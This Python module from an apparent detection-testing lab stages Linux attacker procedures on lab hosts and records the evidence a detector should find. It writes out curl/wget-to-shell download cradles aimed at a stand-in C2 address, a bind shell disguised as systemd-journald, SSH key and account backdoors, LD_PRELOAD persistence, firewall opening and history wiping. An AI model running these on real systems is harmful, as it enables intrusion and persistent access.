"""Third set of real attacker procedures (the `v3-` scenarios), each modelled on an Atomic Red Team
Linux test (read in redcanaryco/atomic-red-team; the commands are our own, nothing vendored), none
of them used by attacks.py or attacks_v2.py.  Each returns its truth evidence: the rows of the pack
it creates ({query, kind: "added", match}) or, for a rule it deletes, the row it makes disappear
({kind: "missing"}: present on every clean host and on the baseline, absent on this one); the
builder (fleet_v3.check_evidence_v3) checks both against the collected run.

Only per-host paths are written (hostexec.PER_HOST) plus the host's private /var/spool/cron
(noise_v2.private_mounts) and the host's own network namespace's nftables ruleset.  Download
cradles name 203.0.113.77 (TEST-NET-3): cron, init and systemd do not run in the lab, so nothing
fetches."""

from __future__ import annotations

import shlex
from collections.abc import Callable
from typing import Any

from diffy_lab import Lab, LabHost
from diffy_lab.spec import gateway

from .attacks import C2, Attack
from .hostexec import sh, spawn
from .noise_v2 import check_private
from .noise_v3 import SERVICE_UID, SERVICE_USER, ssh_restrict_rule

Evidence = dict[str, Any]
LISTEN_PORT = 5355


def _ev(query: str, kind: str = "added", **match: str) -> Evidence:
    return {"query": query, "kind": kind, "match": match}


def _sha256(host: LabHost, path: str) -> str:
    return sh(host, f"sha256sum {shlex.quote(path)}").split()[0]


def _bastion(lab: Lab) -> str:
    return gateway(lab.config.subnet).split("/")[0]


def user_crontab(lab: Lab, host: LabHost, user: str = SERVICE_USER, minute: str = "*/9") -> list[Evidence]:
    """T1053.003 "Cron - Add script to /var/spool/cron/crontabs/ folder": a per-user crontab (the
    service account's, so `crontab -l` as root shows nothing) running a download cradle.  Written
    into the host's private /var/spool/cron, owned by the user, mode 0600 as crontab(1) leaves it."""
    check_private(host)
    path = f"/var/spool/cron/crontabs/{user}"
    command = f"curl -fsSL http://{C2}/u.sh | bash >/dev/null 2>&1"
    sh(
        host,
        f"echo {shlex.quote(f'{minute} * * * * {command}')} >> {path} && chown {user} {path} && "
        f"chmod 0600 {path} && {{ chgrp crontab {path} 2>/dev/null || true; }}",
    )
    return [_ev("crontab", path=path, command=command)]


def service_key(lab: Lab, host: LabHost, user: str = SERVICE_USER) -> list[Evidence]:
    """T1098.004 "Modify SSH Authorized Keys", on a batch service account that has no keys on any
    clean host: a new authorized_keys file holding the attacker's key."""
    algorithm, key, comment = lab.attacker_key.with_suffix(".pub").read_text().split()[:3]
    path = f"/home/{user}/.ssh/authorized_keys"
    sh(
        host,
        f"echo {shlex.quote(f'{algorithm} {key} {comment}')} >> {path} && chmod 0600 {path} && "
        f"chown {SERVICE_UID}:{SERVICE_UID} {path}",
    )
    return [_ev("authorized_keys", username=user, key=key)]


def login_account(lab: Lab, host: LabHost, name: str = "pgbackup", uid: int = 1031) -> list[Evidence]:
    """T1136.001 "Create a user account on a Linux system": a login account with a home directory
    (useradd -m -s /bin/bash), a password, and a name that fits a database host; written into the
    host's passwd/shadow/group directly (useradd would also write the machine's shared lastlog)."""
    hashed = sh(host, "openssl passwd -6 -salt q8Lx2 'Backup!2026'").strip()
    sh(
        host,
        f"echo {shlex.quote(f'{name}:x:{uid}:{uid}:PostgreSQL backup:/home/{name}:/bin/bash')}"
        " >> /etc/passwd\n"
        f"echo {shlex.quote(f'{name}:{hashed}:20424:0:99999:7:::')} >> /etc/shadow\n"
        f"echo '{name}:x:{uid}:' >> /etc/group\n"
        f"mkdir -p /home/{name} && cp /etc/skel/.bashrc /etc/skel/.profile /home/{name}/"
        " 2>/dev/null || true\n"
        f"chown -R {uid}:{uid} /home/{name} && chmod 0750 /home/{name}\n",
    )
    return [_ev("users", username=name, uid=str(uid), shell="/bin/bash")]


def setgid_copy(lab: Lab, host: LabHost, path: str = "/tmp/systemd-private-cache") -> list[Evidence]:
    """T1548.001 "Set a SetGID flag on file": a copy of find(1) made setgid to the shadow group
    (a way back to /etc/shadow for any local user), dropped in /tmp under a systemd-looking name."""
    sh(host, f"cp /usr/bin/find {path} && chgrp shadow {path} && chmod 2755 {path}")
    return [_ev("suid_bin", path=path, permissions="G")]


def unit_ld_preload(
    lab: Lab,
    host: LabHost,
    name: str = "systemd-logind-helper",
    lib: str = "/var/tmp/.cache/libsystemd-shim.so",
) -> list[Evidence]:
    """T1574.006 "Shared Library Injection via LD_PRELOAD", made persistent through a systemd unit
    whose ``Environment=LD_PRELOAD=`` names the attacker's library (built on the host; harmless: it
    only defines a symbol), enabled by its multi-user.target.wants link.  No systemd runs in the lab,
    so the procedure starts the unit's ExecStart with that environment itself (the stand-in for
    `systemctl start`)."""
    unit = f"/etc/systemd/system/{name}.service"
    directory = lib.rsplit("/", 1)[0]
    exec_start = '/usr/bin/python3 -c "import time; time.sleep(10**8)"'  # inside printf's quotes
    sh(
        host,
        f"mkdir -p {directory} /etc/systemd/system/multi-user.target.wants\n"
        f"echo 'int __logind_shim = 1;' > {directory}/s.c && gcc -shared -fPIC -o {lib} {directory}/s.c"
        f" && rm -f {directory}/s.c\n"
        "printf '[Unit]\\nDescription=Login session helper\\n[Service]\\n"
        f"Environment=LD_PRELOAD={lib}\\nExecStart={exec_start}\\nRestart=always\\n"
        f"[Install]\\nWantedBy=multi-user.target\\n' > {unit}\n"
        f"ln -sf {unit} /etc/systemd/system/multi-user.target.wants/{name}.service\n",
        timeout=60,
    )
    spawn(host, f"env LD_PRELOAD={lib} {exec_start}", cwd="/")
    return [_ev("boot_persistence", path=unit), _ev("process_envs", key="LD_PRELOAD", value=lib)]


def sysv_service(lab: Lab, host: LabHost, name: str = "mdadm-syncd") -> list[Evidence]:
    """T1543.002 "Create SysV Service": an init script in /etc/init.d with LSB headers and its
    runlevel-2 start link (what update-rc.d would create), fetching a payload at boot.  Nothing runs
    init scripts in the lab: the files are the durable state."""
    script = f"/etc/init.d/{name}"
    text = (
        "#!/bin/sh\n### BEGIN INIT INFO\n"
        f"# Provides:          {name}\n# Required-Start:    $network\n# Default-Start:     2 3 4 5\n"
        "# Default-Stop:\n# Short-Description: RAID sync monitor\n### END INIT INFO\n"
        f'case "$1" in start) (curl -fsSL http://{C2}/i.sh | sh) >/dev/null 2>&1 & ;; esac\nexit 0\n'
    )
    sh(
        host,
        f"printf %s {shlex.quote(text)} > {script} && chmod 0755 {script}\n"
        f"mkdir -p /etc/rc2.d && ln -sf ../init.d/{name} /etc/rc2.d/S01{name}\n",
    )
    return [_ev("boot_persistence", path=script), _ev("boot_persistence", path=f"/etc/rc2.d/S01{name}")]


def firewall_opened(lab: Lab, host: LabHost, port: int = LISTEN_PORT) -> list[Evidence]:
    """T1562.004 "Disable or Modify System Firewall" (ART's Linux tests delete and add iptables/nft
    rules): the image's rule restricting SSH to the bastion is deleted, and an accept rule for the
    attacker's port is inserted first in the input chain.  Done with nft in the host's own network
    namespace."""
    rule = ssh_restrict_rule(_bastion(lab))
    sh(
        host,
        "h=$(nft -a list chain inet filter input | "
        f"awk -v r={shlex.quote(rule)} 'index($0, r) {{ print $NF }}')\n"
        '[ -n "$h" ] && nft delete rule inet filter input handle "$h"\n'
        f"nft insert rule inet filter input tcp dport {port} accept\n",
    )
    return [
        _ev("firewall_rules", kind="added", chain="input", rule=f"tcp dport {port} accept"),
        _ev("firewall_rules", kind="missing", chain="input", rule=rule),
    ]


def history_devnull(lab: Lab, host: LabHost) -> list[Evidence]:
    """T1070.003 "Clear Bash history (ln dev/null)" and "Clear and Disable Bash History Logging":
    root's history replaced by a link to /dev/null, and the intruder's shell left running with
    HISTFILE=/dev/null and HISTSIZE=0 in its environment."""
    sh(host, "rm -f /root/.bash_history && ln -s /dev/null /root/.bash_history")
    spawn(host, "env HISTFILE=/dev/null HISTSIZE=0 /bin/bash -c 'sleep 100000000; :'", cwd="/root")
    return [
        _ev("shell_history_files", path="/root/.bash_history", symlink="1"),
        _ev("process_envs", key="HISTFILE", value="/dev/null"),
    ]


LISTENER_PY = """\
import socket, subprocess
srv = socket.create_server(("0.0.0.0", {port}))
while True:
    conn, _ = srv.accept()
    subprocess.Popen(["/bin/sh", "-i"], stdin=conn, stdout=conn, stderr=conn)
"""


def masquerade_listener(
    lab: Lab, host: LabHost, port: int = LISTEN_PORT, path: str = "/var/tmp/.sysd/systemd-journald"
) -> list[Evidence]:
    """A bind shell under a masquerading name (T1036.005 "Masquerade as a built-in system
    executable", T1036.003's copy-and-rename of an interpreter): python3 copied to a hidden
    directory as `systemd-journald`, listening on the LLMNR port 5355 (which systemd-resolved would
    own), handing a shell to whoever connects."""
    directory = path.rsplit("/", 1)[0]
    code = LISTENER_PY.format(port=port)
    sh(host, f"mkdir -p {directory} && cp /usr/bin/python3 {path} && chmod 0755 {path}")
    spawn(host, f"env PYTHONHOME=/usr {path} -c {shlex.quote(code)}", cwd="/")
    return [_ev("listening_ports", port=str(port)), _ev("processes", path=path)]


def profile_append(lab: Lab, host: LabHost) -> list[Evidence]:
    """T1546.004 "Append to the system shell profile": a line appended to /etc/profile, run by every
    login shell, fetching a payload in the background (the file exists on every host: the evidence
    is its new content hash)."""
    line = f"(wget -qO- http://{C2}/l.sh 2>/dev/null | sh >/dev/null 2>&1 &)"
    sh(host, f"echo {shlex.quote(line)} >> /etc/profile")
    return [_ev("shell_profiles", path="/etc/profile", sha256=_sha256(host, "/etc/profile"))]


PROCEDURES: dict[str, Callable[..., list[Evidence]]] = {
    "user_crontab": user_crontab,
    "service_key": service_key,
    "login_account": login_account,
    "setgid_copy": setgid_copy,
    "unit_ld_preload": unit_ld_preload,
    "sysv_service": sysv_service,
    "firewall_opened": firewall_opened,
    "history_devnull": history_devnull,
    "masquerade_listener": masquerade_listener,
    "profile_append": profile_append,
}
LISTENING = {"masquerade_listener"}
"""Procedures that leave a listener the builder waits for (params.port, default LISTEN_PORT)."""


def apply(lab: Lab, host: LabHost, attack: Attack) -> list[Evidence]:
    return PROCEDURES[attack.artifact](lab, host, **attack.params)
